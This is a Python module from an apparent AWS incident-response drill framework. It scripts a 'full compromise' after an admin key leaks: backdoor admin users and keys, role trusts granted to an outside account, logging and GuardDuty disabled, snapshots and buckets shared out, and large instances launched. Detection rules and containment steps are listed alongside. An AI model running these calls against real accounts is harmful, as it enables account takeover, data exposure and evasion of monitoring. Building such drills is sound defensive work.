"""An administrator's key leaks, and whoever finds it makes sure to come back: users, keys, passwords, roles, trusts,
policies, machines, functions, open doors, shared copies, and nobody who watches.

https://attack.mitre.org/matrices/enterprise/cloud/iaas/
"""

from collections.abc import Callable
from typing import Any

from unleak.drill.documents import ADMIN, PASSWORD, STRANGER, allow, be_administrator, opened, port, trust, zipped
from unleak.drill.stage import PRIVILEGED, Stage
from unleak.drill.technique import LEAVES, Loot, Move, Technique, Traces
from unleak.model.plan import Mode

COLLEAGUE, GROUP, CI, POLICY, FUNCTION, TRAIL = "alice", "developers", "ci", "deploy", "orders", "main"


def prepare(stage: Stage) -> None:
    """What a small company has: a colleague, a group, a role for CI, a policy, a function, a trail, a detector."""
    iam, mine = stage.admin.client(stage.account, "iam"), f"arn:aws:iam::{stage.account}"
    be_administrator(stage)
    made = iam.create_policy(PolicyName=POLICY, PolicyDocument=allow("s3:GetObject"))["Policy"]["Arn"]
    iam.create_user(UserName=COLLEAGUE)
    iam.attach_user_policy(UserName=COLLEAGUE, PolicyArn=made)
    iam.create_access_key(UserName=COLLEAGUE)
    iam.create_group(GroupName=GROUP)
    iam.put_group_policy(GroupName=GROUP, PolicyName="read", PolicyDocument=allow("s3:ListBucket"))
    iam.add_user_to_group(GroupName=GROUP, UserName=COLLEAGUE)
    iam.create_role(RoleName=CI, AssumeRolePolicyDocument=trust(f"{mine}:root"))
    iam.put_role_policy(RoleName=CI, PolicyName="push", PolicyDocument=allow("ecr:*"))
    _watch(stage)
    _serve(stage)


def _watch(stage: Stage) -> None:
    logs = f"acme-logs-{stage.account}"
    stage.admin.client(stage.account, "s3").create_bucket(Bucket=logs)
    trail = stage.admin.client(stage.account, "cloudtrail")
    trail.create_trail(Name=TRAIL, S3BucketName=logs, IsMultiRegionTrail=True)
    trail.start_logging(Name=TRAIL)
    stage.admin.client(stage.account, "guardduty").create_detector(Enable=True)


def _serve(stage: Stage) -> None:
    ec2 = stage.admin.client(stage.account, "ec2")
    group = ec2.create_security_group(GroupName="web", Description="the shop")["GroupId"]
    ec2.authorize_security_group_ingress(GroupId=group, IpPermissions=[port(443, "0.0.0.0/0")])
    volume = ec2.create_volume(AvailabilityZone="us-east-1a", Size=8)["VolumeId"]
    ec2.create_snapshot(VolumeId=volume, Description="nightly")
    role = stage.admin.client(stage.account, "iam").get_role(RoleName=CI)["Role"]["Arn"]
    code = {"ZipFile": zipped("def handler(event, context): return 1")}
    stage.admin.client(stage.account, "lambda").create_function(
        FunctionName=FUNCTION, Runtime="python3.13", Role=role, Handler="index.handler", Code=code
    )


def _key_for(user: str, holder: str) -> Callable[[Loot], None]:
    def make(loot: Loot) -> None:
        loot.keep(holder, loot.client("key", "iam").create_access_key(UserName=user)["AccessKey"])

    return make


def _iam(method: str, **asked: Any) -> Callable[[Loot], object]:
    """`{account}` and `{policy}` in what is asked are filled in."""

    def call(loot: Loot) -> object:
        arn = f"arn:aws:iam::{loot.stage.account}"
        filled = {k: v.replace("{mine}", arn) if isinstance(v, str) else v for k, v in asked.items()}
        return getattr(loot.client("key", "iam"), method)(**filled)

    return call


def _run_instance(loot: Loot) -> None:
    ec2 = loot.client("key", "ec2")
    image = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    profile = {"Name": PRIVILEGED}
    ec2.run_instances(ImageId=image, InstanceType="p4d.24xlarge", MinCount=1, MaxCount=1, IamInstanceProfile=profile)


def _run_at_lightsail(loot: Loot) -> None:
    loot.client("key", "lightsail").create_instances(
        instanceNames=["proxy"], availabilityZone="us-east-1a", blueprintId="ubuntu_24_04", bundleId="nano_3_0"
    )


def _scale(loot: Loot) -> None:
    ec2, scaling = loot.client("key", "ec2"), loot.client("key", "autoscaling")
    image = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    data = {"ImageId": image, "InstanceType": "c7i.24xlarge"}
    ec2.create_launch_template(LaunchTemplateName="batch", LaunchTemplateData=data)
    scaling.create_auto_scaling_group(
        AutoScalingGroupName="batch", LaunchTemplate={"LaunchTemplateName": "batch"}, MinSize=1, MaxSize=40,
        DesiredCapacity=2, AvailabilityZones=["us-east-1a"],
    )  # fmt: skip


def _ask_for_spot(loot: Loot) -> None:
    ec2 = loot.client("key", "ec2")
    image = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    what = {"ImageId": image, "InstanceType": "c7i.24xlarge"}
    ec2.request_spot_instances(InstanceCount=1, LaunchSpecification=what)


def _let_in_by_provider(loot: Loot) -> None:
    url = "https://token.example.org"
    loot.client("key", "iam").create_open_id_connect_provider(Url=url, ThumbprintList=["a" * 40])


def _open_door(loot: Loot) -> None:
    ec2 = loot.client("key", "ec2")
    found = ec2.describe_security_groups(Filters=[{"Name": "group-name", "Values": ["web"]}])["SecurityGroups"]
    ec2.authorize_security_group_ingress(GroupId=found[0]["GroupId"], IpPermissions=[port(22, "0.0.0.0/0")])


def _share_snapshot(loot: Loot) -> None:
    ec2 = loot.client("key", "ec2")
    own = [{"Name": "owner-id", "Values": [loot.stage.account]}]
    mine = ec2.describe_snapshots(Filters=own)["Snapshots"][0]["SnapshotId"]
    ec2.modify_snapshot_attribute(
        SnapshotId=mine, Attribute="createVolumePermission", OperationType="add", UserIds=[STRANGER]
    )


def _make_function(loot: Loot) -> None:
    role = f"arn:aws:iam::{loot.stage.account}:role/{CI}"
    code = {"ZipFile": zipped("def handler(event, context): return 2")}
    loot.client("key", "lambda").create_function(
        FunctionName="metrics", Runtime="python3.13", Role=role, Handler="index.handler", Code=code
    )


def _open_function(loot: Loot) -> None:
    loot.client("key", "lambda").add_permission(
        FunctionName=FUNCTION, StatementId="s1", Action="lambda:InvokeFunction", Principal=STRANGER
    )


def _open_bucket(loot: Loot) -> None:
    document = opened(f"arn:aws:s3:::{loot.stage.bucket}/*", "s3:GetObject")
    loot.client("key", "s3").put_bucket_policy(Bucket=loot.stage.bucket, Policy=document)


def _blind(loot: Loot) -> None:
    guard = loot.client("key", "guardduty")
    guard.update_detector(DetectorId=guard.list_detectors()["DetectorIds"][0], Enable=False)


def _move(action: str, do: Callable[[Loot], object], *, wanted: bool = False, holder: str = "key") -> Move:
    """What succeeds once is not tried for its refusal: a second time it fails by itself."""
    return Move(holder, action, do, wanted=wanted)


_CREDENTIALS = (
    _move("iam:CreateUser", _iam("create_user", UserName="backup-admin")),
    _move("iam:AttachUserPolicy", _iam("attach_user_policy", UserName="backup-admin", PolicyArn=ADMIN)),
    _move("iam:CreateAccessKey", _key_for("backup-admin", "made")),
    _move("iam:CreateLoginProfile", _iam("create_login_profile", UserName="backup-admin", Password=PASSWORD)),
    _move("iam:CreateAccessKey of a colleague", _key_for(COLLEAGUE, "colleague")),
    _move("iam:CreateLoginProfile", _iam("create_login_profile", UserName=COLLEAGUE, Password=PASSWORD)),
)
_RIGHTS = (
    _move("iam:AttachUserPolicy", _iam("attach_user_policy", UserName=COLLEAGUE, PolicyArn=ADMIN)),
    _move("iam:PutUserPolicy", _iam("put_user_policy", UserName=COLLEAGUE, PolicyName="x", PolicyDocument=allow("*"))),
    _move("iam:PutGroupPolicy", _iam("put_group_policy", GroupName=GROUP, PolicyName="read",
                                     PolicyDocument=allow("s3:*"))),
    _move("iam:UpdateAssumeRolePolicy", _iam("update_assume_role_policy", RoleName=CI,
                                             PolicyDocument=trust(f"arn:aws:iam::{STRANGER}:root"))),
    _move("iam:AttachRolePolicy", _iam("attach_role_policy", RoleName=CI, PolicyArn=ADMIN)),
    _move("iam:CreateRole", _iam("create_role", RoleName="support", AssumeRolePolicyDocument=trust(
        f"arn:aws:iam::{STRANGER}:root"))),
    _move("iam:AttachRolePolicy", _iam("attach_role_policy", RoleName="support", PolicyArn=ADMIN)),
    _move("iam:CreatePolicy", _iam("create_policy", PolicyName="all", PolicyDocument=allow("*"))),
    _move("iam:AttachGroupPolicy", _iam("attach_group_policy", GroupName=GROUP, PolicyArn="{mine}:policy/all")),
    _move("iam:CreateOpenIDConnectProvider", _let_in_by_provider),
    _move("iam:CreateGroup", _iam("create_group", GroupName="auditors")),
    _move("iam:AttachGroupPolicy", _iam("attach_group_policy", GroupName="auditors", PolicyArn=ADMIN)),
    _move("iam:AddUserToGroup", _iam("add_user_to_group", GroupName="auditors", UserName=COLLEAGUE)),
    _move("iam:CreatePolicyVersion", _iam("create_policy_version", PolicyArn=f"{{mine}}:policy/{POLICY}",
                                          PolicyDocument=allow("*"), SetAsDefault=True)),
)  # fmt: skip
_RESOURCES = (
    _move("ec2:RunInstances", _run_instance),
    _move("lightsail:CreateInstances", _run_at_lightsail),
    _move("autoscaling:CreateAutoScalingGroup", _scale),
    _move("ec2:RequestSpotInstances", _ask_for_spot),
    _move("ec2:AuthorizeSecurityGroupIngress", _open_door),
    _move("ec2:ModifySnapshotAttribute", _share_snapshot),
    _move("lambda:CreateFunction", _make_function),
    _move("lambda:AddPermission", _open_function),
    _move("s3:PutBucketPolicy", _open_bucket),
)
_BLINDING = (
    _move("cloudtrail:StopLogging", lambda loot: loot.client("key", "cloudtrail").stop_logging(Name=TRAIL)),
    _move("guardduty:UpdateDetector", _blind),
)
_USES = (
    _move("s3:ListBuckets", lambda loot: loot.client("key", "s3").list_buckets(), wanted=True),
    _move("iam:ListUsers", lambda loot: loot.client("made", "iam").list_users(), wanted=True, holder="made"),
    _move("iam:ListRoles", lambda loot: loot.client("colleague", "iam").list_roles(), wanted=True, holder="colleague"),
)
TECHNIQUE = Technique(
    id="full_compromise",
    title="Full compromise",
    attack=("T1078.004", "T1098.001", "T1098.003", "T1136.003", "T1578.002", "T1537", "T1562.008", "T1648"),
    moves=(*_CREDENTIALS, *_RIGHTS, *_RESOURCES, *_BLINDING, *_USES),
    seen=Traces(
        rules=(
            "iam-create-user", "iam-create-access-key", "iam-attach-admin-policy", "iam-trust-policy-changed",
            "iam-policy-version", "iam-identity-provider", "ec2-run-unusual-instances", "hidden-compute",
            "security-group-opened", "snapshot-shared", "lambda-create-function", "lambda-permission",
            "s3-bucket-opened", "cloudtrail-stopped", "guardduty-disabled",
        ),
        credentials=("CreateAccessKey",),
        things=("IAM::User", "IAM::Role", "EC2::Instance", "Lambda::Function"),
    ),
    stopped_by=("attach_quarantine", "revoke_user_sessions", "deactivate_key", "deny_all", "revoke_role_sessions"),
    leaves=(
        f"user {COLLEAGUE}", "user backup-admin", f"role {CI}", "role support", "group auditors", f"group {GROUP}",
        "policy all", f"policy {POLICY}", "identity provider", "instance", "Lightsail instance proxy",
        "scaling group batch", "launch template batch", "security group web", "snapshot", "function metrics",
        f"function {FUNCTION}", "bucket acme-orders", f"trail {TRAIL}", "detector",
    ),
    prepare=prepare,
    mode=Mode.LOCKDOWN,
    is_told=True,
    puts_right=True,
    only_standin=LEAVES,
)  # fmt: skip
